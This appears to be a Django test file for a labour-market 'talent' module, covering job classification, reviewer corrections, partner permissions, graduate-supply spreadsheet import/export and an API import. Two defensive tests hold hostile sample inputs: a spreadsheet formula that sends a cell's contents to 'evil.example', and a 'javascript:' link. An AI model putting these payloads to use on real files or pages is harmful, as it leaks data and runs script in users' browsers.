"""The classifier page, review, stated needs, supply and the users' aliases and skills."""

import datetime
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from openpyxl import Workbook, load_workbook

from leizu.core.tests.fixtures import tasks_run_at_once
from leizu.talent import classification, services
from leizu.talent.models import GraduateSupply, ImportJob, Posting, StatedNeed

__all__ = ["tasks_run_at_once"]


def test_the_classifier_page_shows_the_decision_and_its_evidence(coordinator):
    response = coordinator.post(
        "/talent/classify/",
        {"title": "Швея-мотористка", "text": "Пошив женской одежды", "language": ""},
        HTTP_HX_REQUEST="true",
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "7533" in page and "0723" in page
    assert "швея" in page.lower()  # the words that matched
    assert "<html" not in page  # an htmx fragment


def test_a_user_alias_teaches_the_classifier_a_new_name(world, actors):
    before = classification.classify("Матрасник-стегальщик", "", "ru")
    assert not before["occupations"] or before["occupations"][0]["isco08"] != "7536"
    services.alias_create(
        by=actors["partner_a"],
        data={"isco08": "7536", "language": "ru", "text": "матрасник-стегальщик", "weight": 1.0},
    )
    after = classification.classify("Матрасник-стегальщик", "", "ru")
    assert after["occupations"][0]["isco08"] == "7536"
    assert any(e.get("label") == "матрасник-стегальщик" for e in after["evidence"])


def test_a_user_skill_joins_an_occupations_profile(world, actors):
    services.skill_create(
        by=actors["coordinator"],
        data={"isco08": "7318", "language": "en", "label": "ikat resist dyeing", "weight": 1.0},
    )
    result = classification.classify("Craftsperson", "Experience in ikat resist dyeing", "en")
    assert any(s["label"] == "ikat resist dyeing" for s in result["skills"])


def test_a_reviewers_correction_wins_over_later_classification(world, actors, coordinator):
    posting = Posting.objects.filter(institution=world["institutions"]["institute"]).first()
    response = coordinator.post(
        f"/talent/postings/{posting.pk}/review/", {"isco08": "3119", "isced_f": "0711"}
    )
    assert response.status_code == 302
    posting.refresh_from_db()
    assert (posting.isco08, posting.isced_f, posting.needs_review) == ("3119", "0711", False)
    assert posting.reviewed_by == world["users"]["coordinator"]
    result = classification.classify("Швея", "", "ru")
    classification.apply(posting, result)
    assert (posting.isco08, posting.isced_f) == ("3119", "0711")
    assert posting.machine_isco08 == result["occupations"][0]["isco08"]
    page = coordinator.get(f"/talent/postings/{posting.pk}/").content.decode()
    assert "3119" in page


def test_a_posting_link_is_shown_only_when_it_is_a_web_address(world, coordinator):
    posting = Posting.objects.create(
        institution=world["institutions"]["institute"],
        title="Linked job",
        country="KZ",
        posted_on=datetime.date(2025, 1, 1),
        content_hash="linked",
        url="javascript:alert(5)",
    )
    page = coordinator.get(posting.get_absolute_url()).content.decode()
    assert "Linked job" in page
    assert "javascript:" not in page
    Posting.objects.filter(pk=posting.pk).update(url="https://hh.kz/vacancy/1")
    page = coordinator.get(posting.get_absolute_url()).content.decode()
    assert 'href="https://hh.kz/vacancy/1"' in page


def test_low_confidence_postings_wait_for_review_least_certain_first(world, coordinator):
    institute = world["institutions"]["institute"]
    Posting.objects.create(
        institution=institute,
        title="Unclear job",
        country="KZ",
        posted_on=datetime.date(2025, 1, 1),
        content_hash="unclear",
        score=0.01,
        needs_review=True,
    )
    page = coordinator.get("/talent/review/").content.decode()
    assert "Unclear job" in page


def test_partner_staff_state_a_need_that_other_partners_cannot_reach(world, clients):
    response = clients["partner_a"].post(
        "/talent/needs/new/",
        {
            "isced_f": "0715",
            "occupation": "Токари",
            "country": "KZ",
            "region": "KZ-ALA",
            "headcount": 12,
            "stated_on": "2025-06-01",
            "reliability": "0.8",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    need = StatedNeed.objects.get(occupation="Токари")
    assert (need.institution, need.kind, need.reliability) == (
        world["institutions"]["kz1"],
        "statement",
        0.8,
    )
    assert clients["partner_b"].get(f"/talent/needs/{need.pk}/edit/").status_code == 404
    # The date field shows the stored date in the form a browser's date input reads, in Russian
    # too (where the page writes dates 01.06.2025).
    edit = clients["partner_a"].get(f"/talent/needs/{need.pk}/edit/", HTTP_ACCEPT_LANGUAGE="ru")
    assert 'value="2025-06-01"' in edit.content.decode()
    assert "Токари" in clients["partner_a"].get("/talent/needs/").content.decode()
    assert "Токари" not in clients["partner_b"].get("/talent/needs/").content.decode()


def test_supply_is_edited_by_network_managers_and_imported_all_or_nothing(
    coordinator, clients, tasks_run_at_once
):
    response = coordinator.post(
        "/talent/supply/new/",
        {"isced_f": "0723", "country": "TJ", "region": "TJ-SU", "year": 2025, "graduates": 90},
    )
    assert response.status_code == 302
    assert clients["partner_a"].get("/talent/supply/new/").status_code == 403

    def workbook(rows):
        wb = Workbook()
        ws = wb.active
        ws.append(["isced_f", "country", "region", "year", "graduates", "source"])
        for row in rows:
            ws.append(row)
        out = io.BytesIO()
        wb.save(out)
        return SimpleUploadedFile("graduates.xlsx", out.getvalue())

    good = [["0723", "TJ", "TJ-SU", 2025, 95, "stat"], ["0715", "TJ", "", 2025, 40, "stat"]]
    bad = [*good, ["9999x", "TJ", "", 2025, 1, ""]]
    page = coordinator.post(
        "/talent/supply/import/", {"file": workbook(bad)}, follow=True
    ).content.decode()
    assert "Nothing was saved" in page
    assert GraduateSupply.objects.get(country="TJ", isced_f="0723").graduates == 90
    assert coordinator.post("/talent/supply/import/", {"file": workbook(good)}).status_code == 302
    assert GraduateSupply.objects.get(country="TJ", isced_f="0723").graduates == 95
    assert GraduateSupply.objects.filter(country="TJ").count() == 2
    coordinator.post("/talent/supply/import/", {"file": workbook(good)})
    assert GraduateSupply.objects.filter(country="TJ").count() == 2
    export = coordinator.get("/talent/supply/export.xlsx")
    rows = list(load_workbook(io.BytesIO(export.content)).active.iter_rows(values_only=True))
    assert [r for r in rows if r[:2] == ("0715", "TJ")] == [("0715", "TJ", None, 2025, 40, "stat")]


def test_a_supply_source_is_exported_as_text_and_imported_back_unchanged(
    coordinator, tasks_run_at_once
):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    response = coordinator.post(
        "/talent/supply/new/",
        {"isced_f": "0723", "country": "TJ", "year": 2025, "graduates": 7, "source": attack},
    )
    assert response.status_code == 302
    export = coordinator.get("/talent/supply/export.xlsx").content
    rows = list(load_workbook(io.BytesIO(export)).active.iter_rows())
    cells = next(r for r in rows if r[1].value == "TJ")
    assert (cells[5].value, cells[5].data_type) == ("'" + attack, "s")
    assert (cells[3].value, cells[4].value) == (2025, 7)  # numbers stay numbers
    assert not any(c.data_type == "f" for r in rows for c in r)
    upload = SimpleUploadedFile("graduates.xlsx", export)
    assert coordinator.post("/talent/supply/import/", {"file": upload}).status_code == 302
    assert GraduateSupply.objects.get(country="TJ").source == attack


def test_the_taxonomy_page_adds_and_removes_aliases(clients, world):
    partner = clients["partner_a"]
    response = partner.post(
        "/talent/taxonomy/",
        {
            "which": "alias",
            "alias-isco08": "7223",
            "alias-language": "kk",
            "alias-text": "токарь-станокшы",
            "alias-weight": "0.9",
        },
    )
    assert response.status_code == 302
    page = partner.get("/talent/taxonomy/").content.decode()
    assert "токарь-станокшы" in page
    alias_id = services.OccupationAlias.objects.get(text="токарь-станокшы").pk
    assert (
        clients["partner_b"].post(f"/talent/taxonomy/aliases/{alias_id}/delete/").status_code == 403
    )
    assert partner.post(f"/talent/taxonomy/aliases/{alias_id}/delete/").status_code == 302
    assert not services.OccupationAlias.objects.filter(pk=alias_id).exists()


def test_the_api_imports_a_file_and_reports_its_progress(world, settings, tmp_path):
    from conftest import login_client

    settings.MEDIA_ROOT = tmp_path
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    client = login_client(world["users"]["partner_uz"])
    lines = "\n".join(
        json.dumps(
            {"title": t, "country": "UZ", "date": "2025-02-0" + str(i + 1)}, ensure_ascii=False
        )
        for i, t in enumerate(["Tikuvchi", "Elektromontyor", "Tokar"])
    )
    upload = SimpleUploadedFile("api.jsonl", lines.encode("utf-8"))
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post("/api/v1/talent/imports", {"file": upload, "kind": "postings"})
    assert response.status_code == 201, response.content
    job_id = response.json()["id"]
    job = client.get(f"/api/v1/talent/imports/{job_id}").json()
    assert (job["status"], job["created_count"]) == ("done", 3)
    assert ImportJob.objects.get(pk=job_id).institution == world["institutions"]["uz1"]
    postings = client.get(f"/api/v1/talent/postings?import_id={job_id}").json()
    assert postings["count"] == 3
    assert all(p["machine_isco08"] for p in postings["items"])
    figures = client.get("/api/v1/talent/figures?country=UZ").json()
    assert figures["total"]["postings"] >= 3


@pytest.mark.parametrize("language", ["zh-hans", "ru", "kk", "uz", "en"])
def test_talent_pages_render_in_every_interface_language(coordinator, language):
    coordinator.cookies["leizu_language"] = language
    for url in ("/talent/", "/talent/postings/", "/talent/imports/", "/talent/classify/"):
        assert coordinator.get(url, HTTP_ACCEPT_LANGUAGE=language).status_code == 200
